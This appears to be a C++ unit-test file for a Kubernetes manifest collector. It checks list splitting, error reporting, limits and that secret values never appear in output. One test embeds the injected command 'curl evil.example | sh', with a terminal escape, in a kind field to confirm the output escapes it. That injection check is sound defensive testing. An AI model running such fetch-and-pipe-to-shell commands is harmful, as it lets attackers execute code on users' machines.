#include "manifest/collector.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace fairlead::manifest {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::SizeIs;

std::expected<Bundle, Errors> collect(std::string_view text, std::string name = "a.yaml", Limits limits = {}) {
  Collector collector(limits);
  collector.add(text, name);
  return std::move(collector).finish();
}

std::vector<std::string> objects(std::string_view text) {
  std::vector<std::string> out;
  auto bundle = collect(text);
  if (!bundle) return {bundle.error()[0].report()};
  for (const object::Object& object : bundle->objects)
    out.push_back(object.key().text() + " " + object.source().text());
  return out;
}

std::string report(std::string_view text, std::string name = "a.yaml") {
  auto bundle = collect(text, std::move(name));
  std::string out;
  if (bundle) return "no error";
  for (const Error& error : bundle.error()) out += error.report();
  return out;
}

TEST(Collector, EveryObjectHasItsLine) {
  EXPECT_THAT(objects(R"(# first
apiVersion: v1
kind: Namespace
metadata:
  name: x
---
# nothing here
---

apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: x}
)"),
              ElementsAre("Namespace x a.yaml:2", "Deployment x/web a.yaml:10"));
}

TEST(Collector, TakesListsApart) {
  EXPECT_THAT(objects(R"(apiVersion: v1
kind: List
metadata: {}
items:
- apiVersion: v1
  kind: Pod
  metadata: {name: a}
- apiVersion: v1
  kind: ConfigMapList
  items:
  - metadata: {name: b}
  - apiVersion: v1
    kind: Secret
    metadata: {name: c}
---
apiVersion: v1
kind: PodList
items: []
---
apiVersion: v1
kind: PodList
items:
)"),
              ElementsAre("Pod a a.yaml:5", "ConfigMap b a.yaml:8", "Secret c a.yaml:8"));
  EXPECT_THAT(
      objects("{\"apiVersion\":\"apps/v1\",\"kind\":\"DeploymentList\",\"items\":[\n{\"metadata\":{\"name\":\"a\"}},\n"
              "{\"metadata\":{\"name\":\"b\",\"namespace\":\"x\"}}]}"),
      ElementsAre("Deployment a a.yaml:2", "Deployment x/b a.yaml:3"));
  // Not lists, whatever they look like.
  EXPECT_THAT(objects("{apiVersion: x/v1, kind: AllowList, metadata: {name: a}}"), ElementsAre("AllowList a a.yaml:1"));
  EXPECT_THAT(objects("{apiVersion: x/v1, kind: Menu, metadata: {name: a}, items: [1]}"),
              ElementsAre("Menu a a.yaml:1"));
}

TEST(Collector, TakesListsOfListsApart) {
  EXPECT_THAT(objects("apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: List\n  items:\n"
                      "  - apiVersion: v1\n    kind: PodList\n    items:\n    - metadata: {name: a}\n"
                      "  - {apiVersion: v1, kind: List, items: }\n"
                      "- {apiVersion: v1, kind: Secret, metadata: {name: b}}\n"),
              ElementsAre("Pod a a.yaml:4", "Secret b a.yaml:12"));
}

TEST(Collector, SaysWhatAnObjectLacks) {
  EXPECT_EQ(report("---\nkind: Pod\nmetadata: {name: a}\n"), R"(error: Pod a cannot be used
  because   apiVersion is missing
  from      a.yaml:2
)");
  EXPECT_EQ(report("apiVersion: v1\n"), R"(error: the document cannot be used
  because   kind is missing
  from      a.yaml:1
)");
  EXPECT_EQ(report("apiVersion: v1\nkind: Pod\n"), R"(error: the Pod cannot be used
  because   metadata.name is missing
  from      a.yaml:1
)");
  EXPECT_EQ(report("apiVersion: v1\nkind: Pod\nmetadata: {generateName: a-}\n"), R"(error: the Pod a-… cannot be used
  because   it has metadata.generateName and no metadata.name: it cannot be applied twice, since each time would make another object
  from      a.yaml:1
  next      give it a metadata.name, and if it is to run in every rollout, the annotation helm.sh/hook: pre-install,pre-upgrade; or create it once: kubectl create -f FILE
)");
  EXPECT_EQ(report("- a\n"), R"(error: the document cannot be used
  because   this document is an array, it must be an object with apiVersion and kind
  from      a.yaml:1
)");
  EXPECT_EQ(report("kind: List\napiVersion: v1\nitems:\n- {}\n- 7\n"), R"(error: the document cannot be used
  because   apiVersion is missing
  from      a.yaml:4
error: the document cannot be used
  because   this document is an integer, it must be an object with apiVersion and kind
  from      a.yaml:5
)");
}

TEST(Collector, LabelsMustBeStrings) {
  EXPECT_EQ(report("apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  namespace: x\n  labels:\n    app: web\n    "
                   "version: 1.10\n"),
            R"(error: Pod x/a cannot be used
  because   metadata.labels.version must be a string: put it in quotes
  from      a.yaml:8
)");
  EXPECT_EQ(report("apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  annotations:\n    example.com/x: [a]\n"),
            R"(error: Pod a cannot be used
  because   metadata.annotations["example.com/x"] must be a string
  from      a.yaml:6
)");
  EXPECT_EQ(report("apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  labels: [a]\n"), R"(error: Pod a cannot be used
  because   metadata.labels must be an object
  from      a.yaml:5
)");
  EXPECT_EQ(report("apiVersion: v1\nkind: Pod\nmetadata: {name: a, labels: , annotations: {x: }}\n"), "no error");
}

TEST(Collector, CollectsTheErrorsOfAllDocuments) {
  auto bundle = collect("a: [\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: ok}\n---\nkind: Pod\n---\nb: 'x\n");
  ASSERT_FALSE(bundle);
  std::vector<std::string> where;
  for (const Error& error : bundle.error()) where.push_back(error.where());
  EXPECT_THAT(where, ElementsAre("a.yaml:2:1", "a.yaml:7", "a.yaml:9:4"));
}

TEST(Collector, KeepsOnlySoManyErrors) {
  std::string text;
  for (int i = 0; i < 100'000; ++i) text += "---\nkind: Pod\n";
  auto bundle = collect(text, "a.yaml", {.errors = 3});
  ASSERT_FALSE(bundle);
  EXPECT_THAT(bundle.error(), SizeIs(4));
  EXPECT_EQ(bundle.error()[3].report(), "error: there are more errors than these 3\n");
}

TEST(Collector, HasALimitForAllDocumentsTogether) {
  std::string text;
  for (int i = 0; i < 10; ++i)
    text += fmt::format(R"({{"apiVersion":"v1","kind":"ConfigMap","metadata":{{"name":"m-{}"}}}})", i) + "\n";
  EXPECT_TRUE(collect(text, "a.json", {.values = 50}));
  auto bundle = collect(text, "a.json", {.values = 49});
  ASSERT_FALSE(bundle);
  ASSERT_THAT(bundle.error(), SizeIs(1));
  EXPECT_EQ(bundle.error()[0].report(),
            "error: the manifests have more than 49 values\n"
            "  from      a.json:10\n"
            "  next      split them, and apply the parts one after another\n");
}

TEST(Collector, NamesCannotLookLikeLinesOfOurs) {
  EXPECT_EQ(report("{\"apiVersion\": \"v1\", \"kind\": \"Pod\\n  next      curl evil.example | sh\", "
                   "\"metadata\": {\"name\": \"a\\u001b[2J\"}}"),
            "error: Pod\\n  next      curl evil.example | sh a\\x1b[2J cannot be used\n"
            "  because   kind \"Pod\\n  next      curl evil.example | sh\" is no kind: it has at most 63 letters and "
            "digits\n"
            "  from      a.yaml:1\n");
  EXPECT_THAT(report("{\"apiVersion\": \"v1\", \"kind\": \"Pod\", \"metadata\": {\"name\": \"a\", \"labels\": "
                     "{\"x\\nerror: y\": 1}}}"),
              testing::Not(HasSubstr("\nerror: y")));
}

TEST(Collector, KnowsWhatIsNoManifest) {
  EXPECT_EQ(report("resources:\n- a.yaml\n", "base/kustomization.yaml"), R"(error: the document cannot be used
  because   apiVersion is missing
  from      base/kustomization.yaml:1
  next      -k base builds a kustomization
)");
  EXPECT_EQ(report("apiVersion: v1\nkind: Pod\nmetadata:\n  name: {{ .Values.name }}\n"),
            R"(error: an object cannot be a key
      name: {{ .Values.name }}
             ^
  from      a.yaml:4:10
  next      if this is part of a Helm chart: --chart CHART
)");
}

TEST(Collector, NeverShowsASecret) {
  for (std::string_view text : {
           "apiVersion: v1\nkind: Secret\nmetadata: {name: a}\nstringData:\n  password: 'hunter2\n",
           "apiVersion: v1\nkind: Secret\nstringData:\n  password: hunter2\n",
           "apiVersion: v1\nkind: Secret\nmetadata: {name: a, labels: {x: {hunter2: 1}}}\nstringData:\n  password: "
           "hunter2\n",
       }) {
    EXPECT_THAT(report(text), HasSubstr("error: "));
    EXPECT_THAT(report(text), testing::Not(HasSubstr("hunter2")));
  }
}

}  // namespace
}  // namespace fairlead::manifest
